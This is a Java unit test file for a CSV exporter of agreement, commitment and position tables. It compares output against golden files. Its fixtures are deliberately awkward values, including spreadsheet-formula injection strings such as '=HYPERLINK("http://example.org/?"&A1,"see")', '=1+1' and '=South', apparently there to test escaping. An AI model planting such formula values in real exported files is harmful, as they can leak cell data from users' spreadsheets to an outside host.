package ledger.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.annotation.JsonInclude;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.OptionalLong;
import java.util.stream.Stream;
import ledger.Golden;
import ledger.answer.Label;
import ledger.answer.Listing;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/// Tables of answers in which everything stands that is hard to write, and their descriptions. The
/// files are what readers of others read in ledger-eyes.
class CsvFileTest {

  private static final JsonMapper JSON =
      JsonMapper.builder()
          .changeDefaultPropertyInclusion(
              inclusion -> inclusion.withValueInclusion(JsonInclude.Include.NON_ABSENT))
          .build();
  private static final CsvFile FILE = new CsvFile(JSON);
  private static final Label LABEL =
      new Label("quay", "record", Instant.parse("2026-03-01T10:00:00Z"), 47, "neutral");

  private static Listing listing(String head, String... rows) {
    return new Listing(
        LABEL,
        "{\"north\":\"The North\",\"south\":\"=South\"}",
        head.getBytes(StandardCharsets.UTF_8),
        Stream.of(rows).map(row -> row.getBytes(StandardCharsets.UTF_8)).toList(),
        OptionalLong.empty());
  }

  private static void matches(CsvTable table, Listing answer) {
    var labelled = new CsvOptions(true, false);
    Golden.of("csv/" + table.name() + ".csv")
        .matches(new String(FILE.of(table, answer, labelled), StandardCharsets.UTF_8));
    Golden.of("csv/" + table.name() + CsvMetadata.SUFFIX)
        .matches(
            JSON.writerWithDefaultPrettyPrinter()
                    .writeValueAsString(CsvMetadata.of(table, "", labelled))
                + "\n");
  }

  @Test
  void a_line_of_positions_for_each_proposition_and_holder() {
    matches(
        PositionsCsv.TABLE,
        listing(
            """
            {"columns": [{"holder": "north", "label": "North", "named": true},
              {"holder": {"anonymous": "anon-1"}, "label": "anon-1", "named": false}], "rows": {"rowsHere": 1}}
            """,
            """
            {"proposition": "EXISTS(T)", "joined": ["EXISTS(U)", "EXISTS(V)"],
              "subject": {"en": "=HYPERLINK(\\"http://example.org/?\\"&A1,\\"see\\")", "hy": "Ճանապարհ"}, "undisputed": false,
              "cells": {
                "north": {"value": "AFFIRMS", "strength": "OWN", "implied": true, "since": "2026-02-01T10:00+04:00", "addressees": [],
                  "shadows": [], "notes": [{"kind": "SCOPE"}, {"kind": "SCOPE"}, {"kind": "INFERRED"}],
                  "history": [{"position": 3, "act": "00000000-0000-4000-8000-000000000001"}, {"position": 12, "act": "00000000-0000-4000-8000-000000000002"}]},
                "anon-1": {"value": "SILENT", "implied": false, "addressees": [], "shadows": [], "notes": [], "history": []}}}
            """,
            """
            {"proposition": "CLAIM(c1)", "joined": [], "subject": {"ru": "Первая строка,\\r\\n\\"вторая\\";=1+1\\n-третья"}, "undisputed": true, "common": false,
              "cells": {
                "north": {"value": "DENIES", "strength": "OWN", "implied": false,
                  "since": {"from": "0900-01-01T00:00+00:00", "to": "0900-01-02T00:00+00:00", "precision": "DAY"}, "addressees": ["south", "-east"],
                  "shadows": [{"value": "AFFIRMS"}], "notes": [], "history": []},
                "anon-1": {"value": "AFFIRMS", "strength": "ATTRIBUTED", "implied": false, "since": {"precision": "UNKNOWN"}, "addressees": [], "shadows": [], "notes": [],
                  "history": [{"position": 3000000000, "act": "00000000-0000-4000-8000-000000000003"}]}}}
            """));
  }

  @Test
  void a_line_of_the_board_for_each_commitment() {
    matches(
        BoardCsv.TABLE,
        listing(
            "{\"groups\":[{\"cells\":{\"rowsHere\":2}}]}",
            """
            {"key": {"agreement": "T", "key": "s1"}, "debtors": ["south"], "creditors": ["north"], "mode": "ACHIEVE", "texts": {"en": "+ deliver, then \\"open\\""},
              "conduct": {"kind": "deliver", "object": "-crane"}, "measure": {"unit": "t", "target": "12.50"}, "dueness": "CONDITIONAL",
              "since": "2026-02-01T10:00:00.123456+05:45", "due": "2026-03-01T00:00:00Z", "awaits": {"any": [{"ready": "n1"}, {"performed": "n1"}]}, "percent": 40,
              "performance": [{"mark": "REPORTED"}, {"mark": "DISPUTED"}], "because": {"rule": "ANTECEDENT", "acts": ["00000000-0000-4000-8000-000000000001"], "readings": ["T.par"]},
              "notes": ["NO_DATE_RECORDED"], "contestedBy": [], "reservedBy": [{"anonymous": "anon-1"}]}
            """,
            """
            {"key": {"agreement": "T", "key": "n1"}, "debtors": [], "debtorWords": {"und": "@whoever holds the quay"}, "creditors": [], "mode": "REFRAIN", "texts": {"hy": "Չփակել"},
              "dueness": "NOT_IN_FORCE", "performance": [], "because": {"rule": "ENTRY_INTO_FORCE", "acts": [], "readings": []}, "notes": [], "contestedBy": ["north", "south"], "reservedBy": []}
            """));
  }

  @Test
  void a_line_of_the_register_for_each_agreement_and_each_in_it() {
    matches(
        RegisterCsv.TABLE,
        listing(
            "{\"agreements\":{\"rowsHere\":2}}",
            """
            {"agreement": "T", "status": "IN_FORCE", "by": "north", "form": "WRITTEN", "statedAt": {"from": "2026-01-01T00:00+04:00", "to": "2026-02-01T00:00+04:00", "precision": "MONTH"},
              "version": 2, "inForceVersion": 1, "inForceSince": "2026-02-01T10:00+04:00", "ending": {"at": "2027-01-01T00:00:00Z", "how": "EXPIRED"}, "contestedBy": [], "reservedBy": [],
              "terms": {"texts": [{"lang": "en", "hash": "sha256:00"}, {"lang": "fr", "text": "Ouvrir la route"}]},
              "parties": [
                {"ref": "north", "role": "PARTY", "consent": "ACCEPTED", "since": "2026-01-02T00:00Z", "provisional": false, "suspended": false, "withdrawn": false, "attributedBy": [],
                  "contestedBy": [], "reservedBy": [], "because": "00000000-0000-4000-8000-000000000001"},
                {"ref": "south", "role": "PARTY", "throughWhom": "envoy", "consent": "UNDETERMINED", "provisional": false, "attributedBy": ["north"], "contestedBy": ["south"], "reservedBy": []}],
              "because": "00000000-0000-4000-8000-000000000002"}
            """,
            """
            {"agreement": "-U", "status": "CLAIMED", "by": {"anonymous": "anon-1"}, "form": "UNKNOWN", "version": 1, "contestedBy": [], "reservedBy": [], "terms": {"texts": []}, "parties": [],
              "because": "00000000-0000-4000-8000-000000000003"}
            """));
  }

  /// The columns are those of the data set: `AgtId`, `Dat`, `Status`, `Part`, `ThrdPart` and
  /// `OthAgr` since its first version, `PPName` and `N_characters` since later ones.
  @Test
  void a_line_of_peace_agreements_for_each_agreement() {
    matches(
        PeaceAgreementsCsv.table("The quay"),
        listing(
            "{\"agreements\":{\"rowsHere\":3}}",
            """
            {"agreement": "T", "status": "IN_FORCE", "form": "WRITTEN", "statedAt": "2026-01-01T00:00+04:00", "terms": {"texts": [{"lang": "hy", "text": "Անցում 😀"}]},
              "parties": [{"ref": "north", "role": "PARTY", "consent": "ACCEPTED", "since": "2026-01-02T01:00+04:00"},
                {"ref": "south", "role": "PARTY", "consent": "SIGNED", "since": {"from": "2026-01-01T00:00+04:00", "to": "2026-02-01T00:00+04:00", "precision": "MONTH"}},
                {"ref": "united-nations", "role": "WITNESS", "consent": "NONE"}],
              "relations": [{"from": "T", "to": "U", "type": "RESTATES"}, {"from": "V", "to": "T", "type": "IMPLEMENTS"}, {"from": "T", "to": "U", "type": "SAME"}]}
            """,
            """
            {"agreement": "U", "status": "CLAIMED", "form": "ORAL", "allegedConclusion": {"from": "2026-03-01T00:00Z", "to": "2026-03-02T00:00Z", "precision": "DAY"}, "terms": {"texts": []},
              "parties": [{"ref": "north", "role": "PARTY", "consent": "ACCEPTED", "since": "2026-01-02T01:00+04:00"}, {"ref": "south", "role": "PARTY", "consent": "NONE"}], "relations": []}
            """,
            """
            {"agreement": "V", "status": "IN_FORCE", "form": "UNILATERAL", "statedAt": "2026-03-05T23:30-05:00", "terms": {"texts": []},
              "parties": [{"ref": "south", "role": "PARTY", "consent": "ACCEPTED"}], "relations": []}
            """));
  }

  @Test
  void of_several_views_a_line_for_each_commitment_in_each() {
    var cell =
        "{\"key\": {\"agreement\": \"T\", \"key\": \"s1\"}, \"debtors\": [], \"creditors\": [], \"mode\": \"ACHIEVE\", \"dueness\": \"%s\"}";
    var both =
        new String(
            FILE.of(
                BoardCsv.TABLE,
                listing(
                    "{\"common\": [{\"keys\": [{\"agreement\": \"T\", \"key\": \"s1\"}], \"outcome\": \"DIVERGES\"}], \"views\": ["
                        + "{\"view\": \"party:north\", \"groups\": [{\"cells\": ["
                        + cell.formatted("DUE")
                        + "]}]},"
                        + "{\"view\": \"party:south\", \"groups\": [{\"cells\": ["
                        + cell.formatted("ENDED")
                        + "]}]}]}"),
                new CsvOptions(false, true)),
            StandardCharsets.UTF_8);
    assertThat(both.lines().toList())
        .hasSize(3)
        .satisfies(lines -> assertThat(lines.getFirst()).startsWith("\uFEFF\"view\",\"key\""))
        .element(1)
        .asString()
        .startsWith("\"party:north\",\"T.s1\",")
        .contains("\"DUE\"")
        .endsWith(",\"DIVERGES\"");
  }
}
